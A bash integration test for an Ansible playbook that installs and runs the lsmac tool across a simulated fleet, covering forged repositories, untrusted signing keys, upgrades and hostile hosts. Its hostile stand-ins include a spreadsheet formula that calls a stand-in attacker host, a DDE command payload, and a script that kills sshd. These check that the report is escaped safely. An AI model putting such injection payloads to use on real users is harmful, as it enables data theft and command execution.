#!/usr/bin/env bash
# The Ansible playbook (contrib/ansible/lsmac.yml) across a fleet of machines
# made here: a controller namespace and four hosts on its bridge, each with a
# root filesystem, a package database, an sshd and links of its own (one
# address repeated across hosts): h1 and h2 Debian, h3 a stand-in for an
# RPM-family host (a Debian root with Debian's dnf and rpm that calls itself
# Fedora 40), h4 Debian with its routing socket refused as a hardened sandbox
# refuses it; and two inventory hosts that cannot be listed: one that does
# not answer, and one (h1 again) whose Python is missing. The playbook runs
# with several forks: with lsmac copied (and h2's copy then made an older
# one, which must not shadow the packaged lsmac); from RELEASE's APT and RPM
# repositories served over HTTP from the controller with a forged .repo file:
# first with another key's fingerprint given, then with another key served
# after the release key, both refused by every host, then as they should be;
# again from a newer release, which must replace lsmac on every host; again,
# every host up to date, which must fetch nothing, and once more through the
# release's collection (lsmac.fleet.report), whose report must match; with
# hostile stand-ins for lsmac (one takes its host down, one prints a formula
# and lines that are not address lines, one fails with a formula, one prints
# nothing, and in a run of its own one that never returns, beside a host
# whose Python never answers); and with no host answering, over an older
# report: each down or cut off since, or going down or hanging while lsmac is
# installed. Every host's rows must be what `ip -o link` reports there, or its
# reason; the run must fail. The collection must pass ansible-lint's
# production profile.
#
#   fleet.sh LSMAC RELEASE KEYS ROOT
#
# RELEASE was made for http://10.77.0.1:8080 and signed with the key in KEYS
# (a GNUPGHOME), which signs the newer release too. ROOT is a tarball of the
# hosts' Debian root; made with mmdebstrap when missing, and kept.
set -uo pipefail
here=$(cd "$(dirname "$0")" && pwd)
. "$here/lib/harness.sh" fleet
[ "$(id -u)" = 0 ] || skip "needs root for the hosts' namespaces, roots and sshd"
. "$here/implied-lines.sh"
. "$here/lib/hosts.sh"
lsmac=$(realpath "$1") release=$(realpath "$2") keys=$(realpath "$3") root_tarball=$(realpath -m "$4")
prefix=lsmac-fleet-$$ url=http://10.77.0.1:8080
on_exit 'hosts_end; GNUPGHOME=$keys gpgconf --kill gpg-agent'
machine_packages=$(dpkg-query -W -f='${Package} ${Version}\n' | sha256sum)

if [ ! -s "$root_tarball" ]; then
  started=$SECONDS
  mmdebstrap --quiet --variant=minbase --include=python3,python3-apt,openssh-server,dnf,python3-dnf,rpm \
    bookworm "$work/root.tar" >"$work/mmdebstrap.log" 2>&1 || { cat "$work/mmdebstrap.log"; exit 1; }
  mv "$work/root.tar" "$root_tarball"
  echo "fleet: the hosts' root made in $((SECONDS - started)) s"
fi
cc -O2 -Wall -Wextra -Werror -o "$work/refuse_route_socket" "$here/refuse_route_socket.c" || exit 1
# Run in the tree, which ansible-lint reads through git: elsewhere it finds
# no file, and passes.
linted() {
  (cd "$project" && HOME=$work ansible-lint --offline --profile production --nocolor contrib/ansible 2>&1) |
    tee /dev/stderr | grep -q 'Passed with production profile: 0 failure(s), 0 warning(s) on [1-9]'
}
check "the collection passes ansible-lint's production profile" linted

# The fleet: the controller at 10.77.0.1, host N at 10.77.0.1N in its root.
ssh-keygen -q -t ed25519 -N '' -f "$work/id"
hosts_start "$prefix" 10.77.0.1/24
echo "[fleet]" >"$work/inventory"
for n in 1 2 3 4; do
  ns=$prefix-h$n root=$work/h$n
  mkdir "$root" && tar -xf "$root_tarball" -C "$root" || exit 1
  ssh-keygen -q -A -f "$root"
  mkdir -p "$root/run/sshd" "$root/root/.ssh"
  cp "$work/id.pub" "$root/root/.ssh/authorized_keys"
  printf 'ListenAddress 10.77.0.1%s\nUsePAM no\n' "$n" >"$root/etc/ssh/sshd_config.d/fleet.conf"
  if [ "$n" = 3 ]; then
    rm "$root/etc/debian_version"
    mkdir -p "$root/etc/yum.repos.d"
    printf 'NAME="Fedora Linux"\nID=fedora\nVERSION_ID=40\nPRETTY_NAME="Fedora Linux 40"\n' >"$root/etc/os-release"
    echo "Fedora release 40 (Forty)" >"$root/etc/redhat-release"
  fi
  host_add "h$n" "10.77.0.1$n/24"
  ip -n "$ns" link add name a0 address 02:77:00:00:00:01 type veth peer name b0 address "02:77:00:00:0$n:02"
  [ "$n" != 3 ] || ip -n "$ns" link add name br7 address 02:77:00:00:03:03 type bridge
  sandbox=()
  [ "$n" != 4 ] || sandbox=("$work/refuse_route_socket")
  ip netns exec "$ns" unshare -m sh -c 'mount --rbind /dev "$0/dev" && mount -t proc proc "$0/proc" && exec "$@"' \
    "$root" "${sandbox[@]}" chroot "$root" /usr/sbin/sshd -D -e 2>"$work/sshd-$n.log" &
  # Some are killed on purpose below: no word from bash when they are.
  disown
  echo "h$n ansible_host=10.77.0.1$n" >>"$work/inventory"
done
cat >>"$work/inventory" <<EOF
broken ansible_host=10.77.0.11 ansible_python_interpreter=/usr/bin/python3-missing
silent ansible_host=10.77.0.99
[fleet:vars]
ansible_user=root
ansible_ssh_private_key_file=$work/id
ansible_ssh_common_args='-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5'
ansible_python_interpreter=/usr/bin/python3
ansible_pipelining=true
EOF
for n in 1 2 3 4; do
  host_answers "10.77.0.1$n" || { echo "fleet: h$n's sshd does not answer:"; cat "$work/sshd-$n.log"; exit 1; }
done
# serve RELEASE: serves RELEASE at $url from the controller.
serve() {
  [ -z "${server:-}" ] || { kill "$server"; wait "$server"; }
  ip netns exec "$controller" /usr/bin/python3 -m http.server 8080 --bind 10.77.0.1 --directory "$1" \
    2>>"$work/http.log" >/dev/null &
  server=$!
  host_answers 10.77.0.1 8080
}

# The rows each run should give, as extended regular expressions, one for
# each line of the report. listed: each host's lines as iproute2 implies them
# there, h4 lsmac's own error line, and the hosts that cannot be listed: the
# Python-less one's reason of several lines in one row, and the silent one's.
listed() {
  echo "host,address,error"
  local n
  for n in 1 2 3; do
    ip netns exec "$prefix-h$n" bash -c ". '$here/implied-lines.sh' && implied_lines" |
      sed "s/^MAC Address: /h$n,/; s/\$/,/"
  done
  echo "h4,,lsmac: cannot list network adapters: socket: Permission denied"
  echo 'broken,,"The module failed to execute correctly, you probably need to set the interpreter\. See stdout/stderr for the exact error"'
  echo 'silent,,.*(ssh|connect|route|timed out).*'
}
# rows_match REPORT PATTERNS: each line of REPORT matches the extended regular
# expression on the same line of PATTERNS, and there are as many.
rows_match() {
  local rows=() row=0 pattern
  mapfile -t rows <"$1"
  [ ${#rows[@]} = "$(wc -l <"$2")" ] || return 1
  while IFS= read -r pattern; do [[ ${rows[row++]} =~ ^$pattern$ ]] || return 1; done <"$2"
}
# playbook NAME EXPECTED ARGUMENT...: runs the playbook from the controller as
# contrib/ansible/README.md does, with these arguments, and checks its report
# against the rows the function EXPECTED prints. The playbook is
# contrib/ansible/lsmac.yml unless fleet_playbook names another.
fleet_playbook=$here/../contrib/ansible/lsmac.yml
playbook() {
  local name=$1 expected=$2 report=$work/$1.csv started=$SECONDS
  shift 2
  run_playbook() {
    (cd "$work" && ip netns exec "$controller" env ANSIBLE_SSH_ARGS='-o ControlMaster=no' ANSIBLE_NOCOLOR=1 \
       ANSIBLE_COLLECTIONS_PATH="$work/collections" ansible-playbook -i inventory "$fleet_playbook" \
       -e lsmac_report="$report" "$@") >"$work/$name.log" 2>&1
  }
  check "$name: ansible-playbook fails for the hosts that cannot be listed" fails run_playbook "$@"
  echo "fleet: $name: the playbook took $((SECONDS - started)) s"
  "$expected" >"$work/expected.csv"
  if ! check "$name: every host's rows are as expected" rows_match "$report" "$work/expected.csv"; then
    echo "  report:"; sed 's/^/    /' "$report" 2>/dev/null
    echo "  expected:"; sed 's/^/    /' "$work/expected.csv"
    echo "  ansible-playbook:"; tail -20 "$work/$name.log" | sed 's/^/    /'
  fi
}
# installed VERSION: each host's own package database holds lsmac VERSION
# ("none": holds no lsmac).
installed() {
  local n found
  for n in 1 2 3 4; do
    if [ "$n" = 3 ]; then
      found=$(rpm --root "$work/h$n" -q --qf '%{VERSION}-%{RELEASE}' lsmac 2>&1) || found=none
    else
      found=$(chroot "$work/h$n" dpkg-query -W -f='${db:Status-Abbrev}${Version}' lsmac 2>&1) || found=none
      found=${found#ii }
    fi
    [ "$found" = "$1" ] || { echo "  h$n has lsmac $found, not $1"; return 1; }
  done
}
# stand_in_at N PATH SCRIPT: PATH on h<N> becomes a shell script; stand_in N
# SCRIPT: lsmac on h<N>'s PATH does.
stand_in_at() { printf '#!/bin/sh\n%s\n' "$3" >"$work/h$1$2" && chmod 755 "$work/h$1$2"; }
stand_in() { stand_in_at "$1" /usr/local/bin/lsmac "$2"; }

playbook copy listed -e lsmac_install=copy -e lsmac_executable="$lsmac"
copied() { local n; for n in 1 2 3 4; do cmp "$lsmac" "$work/h$n/usr/local/bin/lsmac" || return 1; done; }
check "copy: each host has its own copy of lsmac" copied
# An older copy, which comes before the packaged lsmac on PATH.
stand_in 2 'echo "MAC Address: 02-00-00-00-0B-AD"'

# The release as someone between it and the hosts might serve it: its .repo
# file naming a repository elsewhere, the signature checks off, which no host
# may follow; and in one run, the release key with another after it.
served=$work/served
cp -as "$release" "$served" && rm "$served/rpm/lsmac.repo" &&
  printf '[lsmac]\nname=lsmac\nbaseurl=%s/elsewhere\nenabled=1\ngpgcheck=0\n' "$url" >"$served/rpm/lsmac.repo" ||
  exit 1
serve "$served"
# The release key, and its twin under the same user ID.
{ read -r fingerprint && read -r twin; } < <(GNUPGHOME=$keys gpg --list-keys --with-colons | awk -F: '/^fpr/ { print $10 }')
refused_key() {
  echo "host,address,error"
  local n
  for n in 1 2 3 4; do echo "h$n,,$refusal"; done
  listed | tail -2
}
untrusted() {
  installed none && [ ! -e "$work/h1/usr/share/keyrings/lsmac-archive-keyring.gpg" ] &&
    [ ! -e "$work/h3/etc/pki/rpm-gpg/RPM-GPG-KEY-lsmac" ] && ! rpm --root "$work/h3" -q gpg-pubkey
}
refusal="\"cannot install lsmac: the release key was not trusted: its fingerprint is $fingerprint, not $twin\""
playbook refused-key refused_key -e lsmac_repository_url="$url" -e lsmac_key_fingerprint="$twin"
check "refused-key: no host trusts the key or installs lsmac" untrusted
rm "$served"/lsmac-archive-keyring.*
cat "$release/lsmac-archive-keyring.gpg" <(GNUPGHOME=$keys gpg --export "$twin") >"$served/lsmac-archive-keyring.gpg"
cat "$release/lsmac-archive-keyring.asc" <(GNUPGHOME=$keys gpg --export --armor "$twin") >"$served/lsmac-archive-keyring.asc"
refusal="cannot install lsmac: the release key was not trusted: it holds 2 keys"
playbook two-keys refused_key -e lsmac_repository_url="$url" -e lsmac_key_fingerprint="$fingerprint"
check "two-keys: no host trusts either key or installs lsmac" untrusted
ln -sf "$release"/lsmac-archive-keyring.* "$served/"
playbook repository listed -e lsmac_repository_url="$url" -e lsmac_key_fingerprint="$fingerprint"
check "repository: each host's package database holds lsmac $version from the release" installed "$version-1"
says_shadowed() {
  grep -A1 '^ok: \[h2\]' "$work/repository.log" | grep -q '/usr/local/bin/lsmac comes before the packaged /usr/bin/lsmac'
}
check "repository: the playbook says that h2's older copy shadows the packaged lsmac" says_shadowed
served_packages() {
  cat "$work/http.log"
  grep -q '"GET /apt/pool/main/l/lsmac/lsmac_[^ ]*_amd64.deb HTTP/1.1" 200' "$work/http.log" &&
    grep -q '"GET /rpm/lsmac-[^ ]*.x86_64.rpm HTTP/1.1" 200' "$work/http.log"
}
check "repository: the .deb and the .rpm came from the served release" served_packages

# A newer release, signed with the same key, from a copy with the version raised.
next=${version%.*}.$((${version##*.} + 1))
git clone -q "$here/.." "$work/next"
(cd "$work/next" && sed -i "s/^project(lsmac VERSION $version/project(lsmac VERSION $next/" CMakeLists.txt &&
  sed -i "s/^# Changes\$/# Changes\n\n## $next ($(date -u +%F))\n\n- A release to upgrade to./" CHANGELOG.md &&
  git -c user.name=fleet -c user.email=fleet@lsmac.invalid commit -qam "lsmac $next" &&
  GNUPGHOME=$keys LSMAC_GPG_KEY=$fingerprint LSMAC_CONTACT="lsmac fleet test <fleet-test@lsmac.invalid>" \
    LSMAC_RELEASE_URL=$url packaging/release.sh "$work/next-release") >"$work/next.log" 2>&1 ||
  { cat "$work/next.log"; exit 1; }
serve "$work/next-release"
playbook upgrade listed -e lsmac_repository_url="$url" -e lsmac_key_fingerprint="$fingerprint"
check "upgrade: every host now holds lsmac $next" installed "$next-1"
# Run again, every host up to date: none reads an index or fetches a
# package; only the controller reads the signed InRelease. The release's
# collection, installed as Ansible users install one, writes the same report.
served_to_hosts() { grep -cE '^10\.77\.0\.1[0-9] ' "$work/http.log"; }
fetched=$(served_to_hosts)
playbook up-to-date listed -e lsmac_repository_url="$url" -e lsmac_key_fingerprint="$fingerprint"
check "up-to-date: no host fetched anything from the repository" eval '[ "$(served_to_hosts)" = "$fetched" ]'
check "up-to-date: every host still holds lsmac $next" installed "$next-1"
ansible-galaxy collection install -p "$work/collections" "$work/next-release/lsmac-fleet-$next.tar.gz" >/dev/null || exit 1
cp "$work/up-to-date.csv" "$work/up-to-date-playbook.csv"
fleet_playbook=lsmac.fleet.report playbook up-to-date listed -e lsmac_repository_url="$url" \
  -e lsmac_key_fingerprint="$fingerprint"
check "up-to-date: the collection's lsmac.fleet.report writes the same report" \
  cmp "$work/up-to-date.csv" "$work/up-to-date-playbook.csv"

# Hostile hosts. lose_host: a stand-in that takes its host down as a crash
# or a reboot does: it kills the host's sshd daemon and every sshd it runs
# under, so that the task's session breaks and the next connection is refused.
lose_host='pid=$$ sshds=$(cat /run/sshd.pid)
while [ "$pid" -gt 1 ]; do
  pid=$(sed -n "s/^PPid:[[:space:]]*//p" "/proc/$pid/status")
  if [ "$pid" -gt 0 ] && [ "$(cat "/proc/$pid/comm")" = sshd ]; then sshds="$sshds $pid"; fi
done
kill -9 $sshds
sleep 10'
formula='=HYPERLINK("http://attacker.invalid/?"&A2,"details")'
stand_in 1 "$lose_host"
stand_in 2 "echo 'MAC Address: 02-77-00-00-00-01'; echo 'MAC Address: $formula'; echo \"@SUM(1+1)*cmd|' /C calc'!A0\""
stand_in 3 "echo '$formula' >&2; exit 1"
stand_in 4 "exit 0"
quoted_formula='=HYPERLINK\(""http://attacker\.invalid/\?""&A2,""details""\)'
hostile() {
  echo "host,address,error"
  echo 'h1,,"?lost while running lsmac: .*'
  echo "h2,,\"lsmac printed a line that is not an address line: MAC Address: $quoted_formula\""
  echo "h3,,\"'$quoted_formula\""
  echo "h4,,"
  listed | tail -2
}
playbook hostile hostile -e lsmac_install=none
# down N: h<N> refuses connections.
down() { ! ip netns exec "$controller" bash -c "echo >/dev/tcp/10.77.0.1$1/22" 2>/dev/null; }
check "hostile: h1 went down with its sshd daemon: its next connection is refused" down 1
# Hosts that never answer, given up on after lsmac_timeout: h4's lsmac, and
# h3's Python, so that reaching h3 hangs.
stand_in 4 "exec sleep 1000"
python=$(readlink "$work/h3/usr/bin/python3")
rm "$work/h3/usr/bin/python3" && stand_in_at 3 /usr/bin/python3 "exec sleep 1000"
hung() {
  echo "host,address,error"
  echo 'h1,,.*(ssh|connect).*'
  hostile | sed -n '3p'
  echo "h3,,timed out after 8 s while reaching the host"
  echo "h4,,timed out after 8 s while running lsmac"
  echo 'broken,,.*(ssh|connect).*'
  listed | tail -1
}
playbook hung hung -e lsmac_install=none -e lsmac_timeout=8
rm "$work/h3/usr/bin/python3" && ln -s "$python" "$work/h3/usr/bin/python3"
# No host answers: h1 is down since the hostile run, h2 and h3 go down while
# lsmac is installed, and h4's installation never ends, by stand-ins for what
# the installation runs first on PATH. Each has lost its lsmac, so that the
# installation runs.
chroot "$work/h2" dpkg -r lsmac >/dev/null && rpm --root "$work/h3" -e lsmac && chroot "$work/h4" dpkg -r lsmac >/dev/null ||
  exit 1
stand_in_at 2 /usr/local/bin/apt-get "$lose_host"
stand_in_at 3 /usr/local/bin/gpg "$lose_host"
stand_in_at 4 /usr/local/bin/apt-get "exec sleep 1000"
all_lost() {
  echo "host,address,error"
  echo 'h1,,.*(ssh|connect).*'
  for n in 2 3; do echo "h$n,,\"?lost while installing lsmac: .*"; done
  echo "h4,,timed out after 8 s while installing lsmac"
  echo 'broken,,.*(ssh|connect).*'
  listed | tail -1
}
printf 'host,address,error\nold,02-00-00-00-00-01,\n' >"$work/all-lost.csv"
playbook all-lost all_lost -e lsmac_repository_url="$url" -e lsmac_key_fingerprint="$fingerprint" \
  -e lsmac_install_timeout=8
check "all-lost: h2 and h3 went down with their sshd daemons" eval 'down 2 && down 3'

untouched() {
  [ "$(dpkg-query -W -f='${Package} ${Version}\n' | sha256sum)" = "$machine_packages" ] &&
    [ ! -e /usr/local/bin/lsmac ] && [ ! -e /etc/apt/sources.list.d/lsmac.list ]
}
check "this machine's own packages and files are untouched" untouched
finish
